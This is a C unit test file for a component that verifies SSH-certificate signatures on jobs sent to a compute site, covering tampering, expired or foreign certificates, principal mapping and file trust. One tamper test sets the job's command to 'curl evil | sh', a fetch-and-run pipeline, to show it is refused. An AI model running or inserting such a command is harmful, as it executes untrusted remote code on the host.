/* SPDX-License-Identifier: Apache-2.0 */
/*
 * usersig: a site checks that a job came from its user, with its own CA
 * keys and principals files, as its sshd would. ssh-keygen is the CA and
 * the user's signer; each way a job is refused says why, in words the user
 * is shown. The text a job's signature covers is pinned: an aifedctl and an
 * agent of different versions must agree on it.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "aconf.h"
#include "af_jobsig.h"
#include "af_time.h"
#include "af_sshcert.h"
#include "usersig.h"

#include "aifed.pb-c.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char dir[64];

static void sh(const char *fmt, ...)
{
    char cmd[2048];
    va_list ap;

    va_start(ap, fmt);
    vsnprintf(cmd, sizeof(cmd), fmt, ap);
    va_end(ap);
    if (system(cmd) != 0)
        fail_msg("failed: %s", cmd);
}

static void put(const char *name, const char *text)
{
    char path[128];
    FILE *f;

    snprintf(path, sizeof(path), "%s/%s", dir, name);
    assert_non_null(f = fopen(path, "w"));
    fputs(text, f);
    fclose(f);
}

static char *slurp(const char *name, char *buf, size_t size)
{
    char path[128];
    size_t n;
    FILE *f;

    snprintf(path, sizeof(path), "%s/%s", dir, name);
    assert_non_null(f = fopen(path, "r"));
    n = fread(buf, 1, size - 1, f);
    buf[n] = '\0';
    fclose(f);
    if (buf[0] != '-') /* a certificate: its one line; a signature: all of it */
        buf[strcspn(buf, "\n")] = '\0';
    return buf;
}

static void certify(const char *name, const char *ca, const char *args)
{
    sh("cp %s/user.pub %s/%s.pub && ssh-keygen -q -s %s/%s -I id-%s %s %s/%s.pub", dir,
       dir, name, dir, ca, name, args, dir, name);
}

/* An agent's config with these [agent] lines added. */
static struct aconf *conf(const char *lines)
{
    char text[1024], path[128];
    struct aconf *c;
    struct af_error err;

    snprintf(text, sizeof(text),
             "[agent]\nsite = meluxina\nsite_file = x.site\nuser_ca_keys = ca.pub\n%s",
             lines);
    put("agent.conf", text);
    snprintf(path, sizeof(path), "%s/agent.conf", dir);
    if (!(c = aconf_load(path, &err)))
        fail_msg("%s", err.text);
    return c;
}

static int setup(void **state)
{
    (void)state;
    snprintf(dir, sizeof(dir), "/tmp/test_usersig.XXXXXX");
    if (!mkdtemp(dir))
        return -1;
    sh("cd %s && for k in ca ca2 user; do ssh-keygen -q -t ed25519 -N '' -C $k -f $k; "
       "done && mkdir principals",
       dir);
    certify("good", "ca",
            "-n alice@myaccessid.org,alice2 -V -5m:+1h -O "
            "extension:ssh-domain-grant@core.aai.geant.org=meluxina");
    certify("expired", "ca", "-n alice@myaccessid.org -V 20200101:20200102");
    certify("mimer", "ca",
            "-n alice@myaccessid.org -V -5m:+1h -O "
            "extension:ssh-domain-grant@core.aai.geant.org=mimer");
    certify("stranger", "ca2", "-n alice@myaccessid.org -V -5m:+1h");
    put("principals/alice", "# the site's, as for sshd\nalice@myaccessid.org\n");
    put("principals/bob", "from=\"10.0.0.0/8\" bob@myaccessid.org\n");
    put("principals/tabbed", "environment=\"A=1\"\talice@myaccessid.org \r\n");
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    sh("rm -rf %s", dir);
    return 0;
}

/* A job with a variable, a file and a catalogue item. */
struct job {
    Aifed__Job job;
    Aifed__JobSpec spec;
    Aifed__EnvVar env[1], *envp[1];
    Aifed__JobFile file[1], *filep[1];
    Aifed__DataItem data[1], *datap[1];
    Aifed__UserSignature sig;
    char cert[8192], text[4096];
};

static void job_init(struct job *j)
{
    memset(j, 0, sizeof(*j));
    aifed__job__init(&j->job);
    aifed__job_spec__init(&j->spec);
    aifed__env_var__init(&j->env[0]);
    aifed__job_file__init(&j->file[0]);
    aifed__data_item__init(&j->data[0]);
    j->env[0].name = "STEPS";
    j->env[0].value = "2";
    j->envp[0] = &j->env[0];
    j->file[0].name = "data/in.txt";
    j->file[0].data.data = (uint8_t *)"some data\n";
    j->file[0].data.len = 10;
    j->filep[0] = &j->file[0];
    j->data[0].kind = AIFED__DATA_KIND__DATA_MODEL;
    j->data[0].name = "tiny-model";
    j->data[0].version = "";
    j->datap[0] = &j->data[0];
    j->spec.name = "tiny";
    j->spec.image = "";
    j->spec.setup = "";
    j->spec.run = "python train.py";
    j->spec.env = j->envp;
    j->spec.n_env = 1;
    j->spec.files = j->filep;
    j->spec.n_files = 1;
    j->spec.data = j->datap;
    j->spec.n_data = 1;
    j->job.id = "job-1";
    j->job.request_id = "req-1";
    j->job.lease_id = "lease-1";
    j->job.site = "meluxina";
    j->job.principal = "user:alice";
    j->job.spec = &j->spec;
}

/* j signed with cert's key, for site, at signed_ms. */
static void sign(struct job *j, const char *cert, const char *site, int64_t signed_ms)
{
    char msg[AF_JOBSIG_MAX_TEXT], name[64];

    assert_true(af_jobsig_message(&j->spec, j->job.lease_id, site, j->job.request_id,
                                  signed_ms, msg, sizeof(msg)) > 0);
    put("msg", msg);
    sh("cd %s && rm -f msg.sig && ssh-keygen -q -Y sign -n aifed-job -f user msg "
       ">/dev/null 2>&1",
       dir);
    snprintf(name, sizeof(name), "%s-cert.pub", cert);
    slurp(name, j->cert, sizeof(j->cert));
    slurp("msg.sig", j->text, sizeof(j->text));
    aifed__user_signature__init(&j->sig);
    j->sig.certificate = j->cert;
    j->sig.signature = j->text;
    j->sig.signed_ms = signed_ms;
    j->job.user_signature = &j->sig;
}

/* The check's refusal, or "" when the job may run as account. */
static const char *check(const struct aconf *c, const struct job *j, const char *account)
{
    static struct af_error why;

    return usersig_check(c, &j->job, account, &why) < 0 ? why.text : "";
}

static const char *PRINCIPALS = "authorized_principals_file = %s/principals/%%u\n"
                                "ssh_domain = meluxina\nrequire_user_signature = yes\n";

static struct aconf *strict(void)
{
    char lines[256];

    snprintf(lines, sizeof(lines), PRINCIPALS, dir);
    return conf(lines);
}

static void the_signed_text_is_pinned(void **state)
{
    struct job j;
    char msg[AF_JOBSIG_MAX_TEXT], hex[65];

    (void)state;
    job_init(&j);
    af_jobsig_spec_digest(&j.spec, hex);
    /* As Python's hashlib gives for the stream af_jobsig.h describes. */
    assert_string_equal(
        hex, "b9994dc3a539c5f7fe2d36e15e2b99e33087d010e7eb3f2528dd5a89dc5d670b");
    assert_true(af_jobsig_message(&j.spec, "lease-1", "meluxina", "req-1", 1700000000000,
                                  msg, sizeof(msg)) > 0);
    assert_string_equal(
        msg, "aifed job\nlease lease-1\nsite meluxina\nrequest req-1\n"
             "signed 1700000000000\nspec "
             "b9994dc3a539c5f7fe2d36e15e2b99e33087d010e7eb3f2528dd5a89dc5d670b\n");
    /* Each part of what runs changes the digest; the time limit does not. */
    j.spec.time_limit_s = 600;
    j.spec.shared = 1;
    af_jobsig_spec_digest(&j.spec, msg);
    assert_string_equal(msg, hex);
    j.file[0].executable = 1;
    af_jobsig_spec_digest(&j.spec, msg);
    assert_string_not_equal(msg, hex);
}

static void a_signed_job_runs_as_the_mapped_account(void **state)
{
    struct aconf *c = strict();
    struct job j;

    (void)state;
    job_init(&j);
    sign(&j, "good", "meluxina", af_now_ms());
    assert_string_equal(check(c, &j, "alice"), "");
    aconf_destroy(c);
}

static void a_job_changed_after_signing_is_refused(void **state)
{
    struct aconf *c = strict();
    struct job j;

    (void)state;
    job_init(&j);
    sign(&j, "good", "meluxina", af_now_ms());
    j.spec.run = "curl evil | sh";
    assert_non_null(strstr(check(c, &j, "alice"), "your signature is not of this job"));
    job_init(&j);
    sign(&j, "good", "meluxina", af_now_ms());
    j.env[0].value = "3";
    assert_non_null(strstr(check(c, &j, "alice"), "your signature is not of this job"));
    job_init(&j);
    sign(&j, "good", "meluxina", af_now_ms());
    j.job.lease_id = "lease-2";
    assert_non_null(strstr(check(c, &j, "alice"), "your signature is not of this job"));
    job_init(&j);
    sign(&j, "good", "mimer", af_now_ms());
    assert_non_null(strstr(check(c, &j, "alice"), "your signature is not of this job"));
    aconf_destroy(c);
}

static void an_unsigned_job_is_refused_where_signatures_are_required(void **state)
{
    struct aconf *c = strict(), *lax = conf("");
    struct job j;

    (void)state;
    job_init(&j);
    assert_non_null(strstr(check(c, &j, "alice"), "runs only jobs their users signed"));
    assert_string_equal(check(lax, &j, "alice"), "");
    aconf_destroy(c);
    aconf_destroy(lax);
}

static void each_bad_certificate_says_why(void **state)
{
    struct aconf *c = strict();
    struct job j;

    (void)state;
    job_init(&j);
    sign(&j, "expired", "meluxina", af_now_ms());
    assert_non_null(
        strstr(check(c, &j, "alice"), "certificate is refused here: expired"));
    sign(&j, "mimer", "meluxina", af_now_ms());
    assert_non_null(strstr(check(c, &j, "alice"), "granted for mimer, not for meluxina"));
    sign(&j, "stranger", "meluxina", af_now_ms());
    assert_non_null(strstr(check(c, &j, "alice"), "a CA this"));
    sign(&j, "good", "meluxina", af_now_ms() + 3600 * 1000);
    assert_non_null(strstr(check(c, &j, "alice"), "dated in the future"));
    aconf_destroy(c);
}

static void only_the_principals_the_site_lists_act_as_an_account(void **state)
{
    struct aconf *c = strict(), *plain = conf("");
    struct job j;

    (void)state;
    job_init(&j);
    sign(&j, "good", "meluxina", af_now_ms());
    assert_non_null(strstr(check(c, &j, "bob"),
                           "no principal of your certificate (alice@myaccessid.org) "
                           "may act as bob"));
    assert_non_null(
        strstr(check(c, &j, "carol"), "cannot read its principals for carol"));
    assert_string_equal(check(c, &j, "tabbed"), ""); /* options, a tab, CRLF */
    /* Without a principals file, as sshd: the principal is the account. */
    assert_string_equal(check(plain, &j, "alice2"), "");
    assert_non_null(
        strstr(check(plain, &j, "alice"), "no principal of your certificate"));
    aconf_destroy(c);
    aconf_destroy(plain);
}

static void the_sites_files_are_trusted_only_as_sshd_would(void **state)
{
    struct aconf *c = strict();
    struct job j;
    char path[128];
    struct af_error err;

    (void)state;
    job_init(&j);
    sign(&j, "good", "meluxina", af_now_ms());
    snprintf(path, sizeof(path), "%s/principals/alice", dir);
    chmod(path, 0666);
    assert_non_null(strstr(check(c, &j, "alice"), "writable by others"));
    chmod(path, 0644);
    snprintf(path, sizeof(path), "%s/principals/fifo", dir);
    assert_int_equal(mkfifo(path, 0644), 0);
    /* No writer: a blocking open would never return. */
    assert_non_null(strstr(check(c, &j, "fifo"), "not a regular file"));
    snprintf(path, sizeof(path), "%s/principals/link", dir);
    sh("ln -s alice %s", path);
    assert_non_null(strstr(check(c, &j, "link"), "cannot read its principals"));
    assert_null(usersig_read_trusted(path, 1024, &err));
    aconf_destroy(c);
}

/* The agent's config error, loading text as [agent]'s lines. */
static const char *refused(const char *lines)
{
    static struct af_error err;
    char text[512], path[128];
    struct aconf *c;

    snprintf(text, sizeof(text), "[agent]\nsite = meluxina\nsite_file = x.site\n%s",
             lines);
    put("bad.conf", text);
    snprintf(path, sizeof(path), "%s/bad.conf", dir);
    if ((c = aconf_load(path, &err))) {
        aconf_destroy(c);
        return "";
    }
    return err.text;
}

/* A principals command: its words with %u the account, only one root (or
 * the agent) owns and no one else may change; its answer read as the file
 * is. */
static void a_principals_command_is_run_as_sshd_would(void **state)
{
    char lines[512], buf[1024], *argv[8], out[256];
    struct aconf *c;
    struct af_error why;
    struct af_sshcert cert;
    struct job j;

    (void)state;
    put("authorize.sh", "#!/bin/sh\necho alice@myaccessid.org\n");
    snprintf(lines, sizeof(lines),
             "authorized_principals_command = %s/authorize.sh --user %%u --x %%%%\n",
             dir);
    c = conf(lines);
    sh("chmod 755 %s/authorize.sh", dir);
    assert_true(usersig_by_command(c));
    assert_int_equal(usersig_command(c, "alice", buf, sizeof(buf), argv, 8, &why), 0);
    assert_string_equal(argv[1], "--user");
    assert_string_equal(argv[2], "alice");
    assert_string_equal(argv[4], "%");
    assert_null(argv[5]);
    sh("chmod 777 %s/authorize.sh", dir);
    assert_int_equal(usersig_command(c, "alice", buf, sizeof(buf), argv, 8, &why), -1);
    assert_non_null(strstr(why.text, "not trusted"));
    sh("chmod 755 %s/authorize.sh", dir);
    /* The two halves: the signature, then the command's answer. */
    job_init(&j);
    sign(&j, "good", "meluxina", af_now_ms());
    assert_int_equal(usersig_verify(c, &j.job, &cert, &why), 0);
    snprintf(out, sizeof(out), "# from the directory\nalice@myaccessid.org\n");
    assert_int_equal(usersig_listed(&cert, out, "alice", &why), 0);
    snprintf(out, sizeof(out), "bob@myaccessid.org\n");
    assert_int_equal(usersig_listed(&cert, out, "alice", &why), -1);
    aconf_destroy(c);
    assert_non_null(strstr(refused("authorized_principals_command = authorize.sh %u\n"),
                           "must start with an absolute path"));
    snprintf(lines, sizeof(lines),
             "authorized_principals_command = /bin/true\nauthorized_principals_file = "
             "/etc/ssh/p/%%u\n");
    assert_non_null(strstr(refused(lines), "not both"));
}

static void a_site_that_cannot_check_is_told_at_start(void **state)
{
    struct aconf *c;
    struct af_error err;

    (void)state;
    assert_non_null(strstr(refused("require_user_signature = yes\n"),
                           "require_user_signature = yes needs user_ca_keys"));
    assert_non_null(strstr(refused("authorized_principals_file = %h/.ssh/principals\n"),
                           "not %h: a home is its user's"));
    assert_non_null(strstr(refused("authorized_principals_file = principals/%u\n"),
                           "must be an absolute path"));
    c = conf("");
    assert_int_equal(usersig_ready(c, &err), 0);
    aconf_destroy(c);
    c = conf("user_ca_keys = user\n"); /* a private key: no CA line */
    assert_int_equal(usersig_ready(c, &err), -1);
    assert_non_null(strstr(err.text, "user_ca_keys"));
    aconf_destroy(c);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_signed_text_is_pinned),
        cmocka_unit_test(a_signed_job_runs_as_the_mapped_account),
        cmocka_unit_test(a_job_changed_after_signing_is_refused),
        cmocka_unit_test(an_unsigned_job_is_refused_where_signatures_are_required),
        cmocka_unit_test(each_bad_certificate_says_why),
        cmocka_unit_test(only_the_principals_the_site_lists_act_as_an_account),
        cmocka_unit_test(the_sites_files_are_trusted_only_as_sshd_would),
        cmocka_unit_test(a_site_that_cannot_check_is_told_at_start),
        cmocka_unit_test(a_principals_command_is_run_as_sshd_would),
    };

    return cmocka_run_group_tests(tests, setup, teardown);
}
